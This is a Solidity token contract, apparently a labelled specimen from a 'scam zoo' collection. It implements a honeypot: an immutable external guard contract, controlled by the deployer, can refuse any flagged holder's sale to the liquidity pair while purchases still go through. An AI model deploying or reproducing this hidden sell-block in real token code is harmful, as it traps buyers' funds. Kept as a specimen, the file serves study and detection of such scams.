// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IZooRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IZooFactory {
    function createPair(address tokenA, address tokenB) external returns (address);
}

interface IZooSellGuard {
    function check(address seller) external view returns (bool);
}

/// @title Sell guard in a helper contract (scam zoo)
/// @notice MALICIOUS sandbox specimen. The token has no owner and no setter; its guard address is
///         an immutable. But every transfer into the pair asks that guard, check(from), and the
///         guard (SellGuard, owned by the deployer) answers false for any seller its owner flags:
///         the blacklist lives in another contract.
contract GuardedSell {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public pair;
    IZooSellGuard private immutable _guard;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router,
                address guard) {
        name = name_;
        symbol = symbol_;
        _guard = IZooSellGuard(guard);
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        pair = IZooFactory(IZooRouter(router).factory()).createPair(
            address(this), IZooRouter(router).WETH());
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "transfer to zero address");
        if (to == pair) require(_guard.check(from), "sell refused");
        uint256 balance = balanceOf[from];
        require(balance >= amount, "insufficient balance");
        unchecked { balanceOf[from] = balance - amount; }
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "insufficient allowance");
            unchecked { allowance[from][msg.sender] = allowed - amount; }
        }
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}
